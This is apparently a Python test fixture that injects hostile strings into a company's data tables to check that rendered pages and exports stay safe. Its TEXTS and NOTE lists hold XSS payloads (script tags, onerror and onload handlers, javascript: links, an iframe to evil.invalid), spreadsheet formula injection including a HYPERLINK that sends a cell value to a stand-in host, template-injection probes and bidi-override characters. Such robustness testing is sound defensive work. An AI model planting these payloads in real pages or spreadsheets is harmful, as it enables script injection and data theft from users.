"""Texts that a page could break on, and a company's tables with one in every place for a text.

Nothing of the product is needed here: `make same` gives two versions of it the very same company.
"""

from __future__ import annotations

from itertools import cycle, islice
from pathlib import Path

import polars as pl

TEXTS = (
    "<b>Bold</b> & \"Sons\" 'Ltd'",
    "<script>document.title = 'it ran'</script>",
    '"><img src=x onerror=alert(1)><svg onload=alert(2)>',
    '=HYPERLINK("https://evil.invalid/?"&A1)',
    "Override \u202eevil\u202c and mark \u200f here",
    "Three hundred " + "unbreakable" * 26,
    "🧱🏗️ Ziegel & Söhne 👩‍👩‍👧‍👦",
    "Two\nlines\r\nand\ta tab",
    "{{ 7 * 7 }} {% raw %} $x^2$ `code` **bold** [link](javascript:alert(3))",
    "</style></title></main><iframe src=//evil.invalid>",
    "مؤسسة الشراكة שותפים",
    "&lt;b&gt;typed as entities&lt;/b&gt; &amp;copy;",
)
# A manager's note, as bad in every way; but no word of it is one of another partner's name.
NOTE = (
    "<i>Slanted</i> & \"quoted\" 'once'",
    "<script>document.cookie = 'it worked'</script>",
    '"><audio src=z onabort=confirm(5)><math onfocus=prompt(6)>',
    '=CMD("calc"&B2)',
    "Reversed \u202etxet\u202c then \u200f on",
    "Long " + "indivisible" * 26,
    "🚚🌧️ Grüße & Äpfel 👨‍👩‍👧",
    "First\nsecond\r\nthird\tfourth",
    "{{ 8 * 8 }} {% set y = 1 %} $y^3$ `typed` **loud** [press](javascript:alert(7))",
    "</p></article></body><object data=//other.invalid>",
    "ملاحظة خاصة הערה",
    "&lt;u&gt;written twice&lt;/u&gt; &amp;reg;",
)
# What is free text in the contract; periods, currencies and names of KPIs are not.
COLUMNS = {
    "partners": ("name", "tier", "segment", "region", "branch", "manager"),
    "customers": ("segment",),
    "touchpoints": ("kind",),
    "surveys": ("comment",),
    "training": ("course",),
    "solutions": ("name",),
    "milestones": ("project",),
    "resources": ("project",),
    "markets": ("name",),
    "objectives": ("title", "owner"),
    "partner_reported": ("owner",),
}
HAVE_A_PAGE = ("branch", "manager")  # each makes one; three of each are enough


def write_hostile_texts(data: Path) -> None:
    """Put the texts into the tables of a folder, wherever the contract takes any text."""
    for table, columns in COLUMNS.items():
        file = data / f"{table}.parquet"
        frame = pl.read_parquet(file)
        for shift, name in enumerate(columns):
            several = TEXTS[shift : shift + 3] if name in HAVE_A_PAGE else TEXTS
            texts = islice(cycle(several), shift, shift + frame.height)
            # A name is needed; of everything else, some of it is empty.
            column = pl.Series(name, list(texts))
            kept = column if name in ("name", "course", "project") else _some_empty(column)
            frame = frame.with_columns(kept)
        frame.write_parquet(file)
    _let_tiers_have_targets(data)


def _let_tiers_have_targets(data: Path) -> None:
    """Give the targets of tiers to the tiers that there are now: one of nobody is a fault."""
    file, tiers = data / "targets.parquet", [text for text in TEXTS if text.strip()]
    frame = pl.read_parquet(file)
    there = pl.read_parquet(data / "partners.parquet")["tier"]
    new = dict(
        zip(frame.filter(scope="tier")["entity"].unique(maintain_order=True), tiers, strict=False)
    )
    assert set(new.values()) <= set(there)
    entity = pl.when(pl.col("scope") == "tier").then(pl.col("entity").replace(new))
    frame.with_columns(entity=entity.otherwise(pl.col("entity"))).write_parquet(file)


def _some_empty(column: pl.Series) -> pl.Series:
    return pl.Series(
        column.name, ["" if row % 13 == 12 else text for row, text in enumerate(column)]
    )
